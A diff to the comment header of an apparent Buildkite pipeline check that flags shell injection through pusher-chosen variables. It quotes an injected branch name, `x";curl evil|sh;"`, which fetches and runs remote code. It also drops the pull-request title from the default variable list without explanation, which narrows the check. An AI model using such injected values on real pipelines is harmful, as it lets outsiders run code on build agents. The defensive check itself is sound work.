@@ -5,7 +5,7 @@
 #   in the whole pipeline before any shell runs. When a command (or a plugin's command)
 #   names a variable whose value the person pushing a branch or opening a pull request
 #   chooses (`$BUILDKITE_BRANCH`, `$BUILDKITE_MESSAGE`, `BUILDKITE_PULL_REQUEST_*`, author
-#   names …) with a single `$`, that text is pasted into the job's script as code: a branch
+#   names) with a single `$`, that text is pasted into the job's script as code: a branch
 #   named `x";curl evil|sh;"` runs, and quoting does not help. In agent tags it lets them
 #   pick the agents that run the job. `$$VAR` (the shell reads it at run time) is not
 #   reported, nor a trigger step's `build:` (`message`, `branch` … are data), labels, or
@@ -31,17 +31,15 @@
 #         - BUILDKITE_MESSAGE
 #         - BUILDKITE_TAG
 #         - BUILDKITE_PULL_REQUEST_BASE_BRANCH
-#         - BUILDKITE_PULL_REQUEST_REPO
 #         - BUILDKITE_PULL_REQUEST_LABELS
-#         - BUILDKITE_PULL_REQUEST_TITLE
 #         - BUILDKITE_BUILD_AUTHOR
 #         - BUILDKITE_BUILD_AUTHOR_EMAIL
 #         - BUILDKITE_BUILD_CREATOR
 #         - BUILDKITE_BUILD_CREATOR_EMAIL
-#         - BUILDKITE_MERGE_QUEUE_*
 #       description: >-
 #         Variables whose value a pusher or pull-request author chooses: exact names, or
-#         prefixes ending in `*`.
+#         prefixes ending in `*`. `BUILDKITE_PULL_REQUEST_REPO` is left out by default (a
+#         repository URL cannot hold shell syntax), as are commit SHAs, numbers and slugs.
 #     check_env:
 #       default: false
 #       description: Also report such variables in `env` values (pipeline and step), which become data, not code.
